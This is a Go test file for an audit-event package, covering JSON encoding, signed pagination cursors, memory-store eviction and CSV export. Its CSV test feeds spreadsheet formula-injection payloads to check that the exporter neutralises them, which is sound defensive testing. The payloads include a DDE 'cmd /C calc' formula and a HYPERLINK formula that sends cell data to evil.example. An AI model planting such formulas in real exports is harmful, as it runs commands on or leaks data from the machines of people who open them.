package audit

import (
	"encoding/csv"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestEventJSON(t *testing.T) {
	at := time.Date(2026, 11, 30, 5, 30, 43, 123456789, time.FixedZone("X", 3600))
	lu := at.Add(time.Minute)
	tests := []struct {
		name string
		e    Event
		want string
	}{
		{"check", Event{ID: "01J", At: at, Kind: KindCheck, Action: "login", Decision: "deny",
			Reason: "rate_limited", User: "alice", IP: "203.0.113.5", Device: "d1", Phone: "+447400123456", Rule: "login/ip",
			RetryAfterMs: ptr(int64(1500)), Degraded: ptr(false), DryRun: ptr(true), APIKey: "auth",
			DecisionID: "01J", Instance: "guard-1"},
			`{"id":"01J","at":"2026-11-30T04:30:43.123Z","kind":"check","action":"login","decision":"deny","reason":"rate_limited","outcome":null,"user":"alice","ip":"203.0.113.5","device":"d1","phone":"+447400123456","rule":"login/ip","retry_after_ms":1500,"lockout_until":null,"degraded":false,"dry_run":true,"api_key":"auth","decision_id":"01J","instance":"guard-1","note":null}`},
		{"admin, nulls", Event{ID: "a", At: at, Kind: KindAdmin, Action: "unlock", LockoutUntil: &lu, Note: "<ok> & \"x\""},
			`{"id":"a","at":"2026-11-30T04:30:43.123Z","kind":"admin","action":"unlock","decision":null,"reason":null,"outcome":null,"user":null,"ip":null,"device":null,"phone":null,"rule":null,"retry_after_ms":null,"lockout_until":"2026-11-30T04:31:43.123Z","degraded":null,"dry_run":null,"api_key":null,"decision_id":null,"instance":null,"note":"\u003cok\u003e \u0026 \"x\""}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b, err := json.Marshal(tt.e)
			if err != nil {
				t.Fatal(err)
			}
			if string(b) != tt.want {
				t.Errorf("got  %s\nwant %s", b, tt.want)
			}
			var back Event
			if err := json.Unmarshal(b, &back); err != nil {
				t.Fatal(err)
			}
			if got, want := mustJSON(t, back), string(b); got != want {
				t.Errorf("round trip: got %s, want %s", got, want)
			}
			// Field order of the JSON is the CSV header.
			var keys []string
			dec := json.NewDecoder(strings.NewReader(string(b)))
			dec.Token()
			for dec.More() {
				k, _ := dec.Token()
				keys = append(keys, k.(string))
				var v any
				dec.Decode(&v)
			}
			if !slices.Equal(keys, CSVHeader) {
				t.Errorf("got keys %v, want CSVHeader %v", keys, CSVHeader)
			}
			if got := len(tt.e.CSVRecord()); got != len(CSVHeader) {
				t.Errorf("got %d csv cells, want %d", got, len(CSVHeader))
			}
		})
	}
	if err := json.Unmarshal([]byte(`{"id":"x","at":"yesterday"}`), new(Event)); err == nil {
		t.Errorf("got nil error for a bad time")
	}
}

func mustJSON(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestCursorCodec(t *testing.T) {
	k := NewCursorCodec([]byte("secret"))
	c := &Cursor{At: time.Date(2026, 11, 30, 5, 30, 43, 123000000, time.UTC), ID: "01JDECISION"}
	s := k.Encode(c)
	got, err := k.Decode(s)
	if err != nil || !got.At.Equal(c.At) || got.ID != c.ID {
		t.Fatalf("round trip: got %+v, %v; want %+v", got, err, c)
	}
	if k.Encode(nil) != "" {
		t.Errorf("got a cursor for nil, want \"\"")
	}
	flipped := []byte(s)
	flipped[5] ^= 1
	tests := []struct{ name, in string }{
		{"empty", ""},
		{"not base64", "%%%"},
		{"short", "AAAA"},
		{"tampered", string(flipped)},
		{"other secret", NewCursorCodec([]byte("other")).Encode(c)},
		{"truncated", s[:len(s)-2]},
		{"huge", strings.Repeat("A", 5000)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := k.Decode(tt.in); !errors.Is(err, ErrBadCursor) {
				t.Errorf("got %v, want ErrBadCursor", err)
			}
		})
	}
}

func TestMemoryStoreEvictsOldest(t *testing.T) {
	s := NewMemoryStore(5)
	evs := genEvents("m", 8, time.Now(), time.Millisecond)
	// Out of order on purpose: eviction goes by time, not arrival.
	s.Insert(t.Context(), evs[4:])
	s.Insert(t.Context(), evs[:4])
	page, _ := s.Query(t.Context(), Filter{})
	if got, want := ids(page.Events), []string{"m000007", "m000006", "m000005", "m000004", "m000003"}; !slices.Equal(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
	// An evicted id may come back (its dedup entry went with it).
	s.Insert(t.Context(), evs[7:])
	if got := s.Len(); got != 5 {
		t.Errorf("got %d events, want 5", got)
	}
}

// A CSV export is opened in spreadsheets, and user, device, note and a
// report's decision_id are chosen by whoever calls Guard: a cell that a
// spreadsheet would run as a formula gets a leading apostrophe (shown as
// text, the apostrophe hidden). Other cells, and the NDJSON export, are
// byte for byte what was stored.
func TestCSVNeutralisesFormulas(t *testing.T) {
	userCol := slices.Index(CSVHeader, "user")
	tests := []struct {
		name, user, want string
	}{
		{"equals", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"hyperlink", `=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{"plus with a call", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"minus with a call", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"minus with a function", "-SUM(A1:A9)", "'-SUM(A1:A9)"},
		{"phone number stays", "+15551234567", "+15551234567"},
		{"formatted phone number stays", "+1 (555) 123-4567", "+1 (555) 123-4567"},
		{"negative number stays", "-42", "-42"},
		{"at", "@SUM(1+1)", "'@SUM(1+1)"},
		{"tab", "\t=1", "'\t=1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"plain", "alice@example.com", "alice@example.com"},
		{"equals inside", "a=b", "a=b"},
		{"comma quote newline", "a, \"b\"\nc", "a, \"b\"\nc"},
		{"empty", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := Event{ID: "e1", At: time.Date(2026, 1, 2, 3, 4, 5, 6e6, time.UTC), Kind: KindCheck,
				User: tt.user, RetryAfterMs: ptr(int64(1500)), DryRun: ptr(false)}
			var b strings.Builder
			x, err := NewCSVExporter(&b)
			if err != nil {
				t.Fatal(err)
			}
			if err := x.Write(e); err != nil {
				t.Fatal(err)
			}
			if err := x.Close(); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
			if err != nil {
				t.Fatalf("read back: %v", err)
			}
			if len(rows) != 2 {
				t.Fatalf("got %d rows, want header + 1", len(rows))
			}
			if got := rows[1][userCol]; got != tt.want {
				t.Errorf("got user cell %q, want %q", got, tt.want)
			}
			if got, want := rows[1][:3], []string{"e1", "2026-01-02T03:04:05.006Z", "check"}; !slices.Equal(got, want) {
				t.Errorf("got %v, want %v", got, want)
			}
			var nd strings.Builder
			ndx := NewNDJSONExporter(&nd)
			if err := ndx.Write(e); err != nil {
				t.Fatal(err)
			}
			if err := ndx.Close(); err != nil {
				t.Fatal(err)
			}
			var back Event
			if err := json.Unmarshal([]byte(nd.String()), &back); err != nil || back.User != tt.user {
				t.Errorf("ndjson: got user %q (%v), want %q unchanged", back.User, err, tt.user)
			}
		})
	}
}
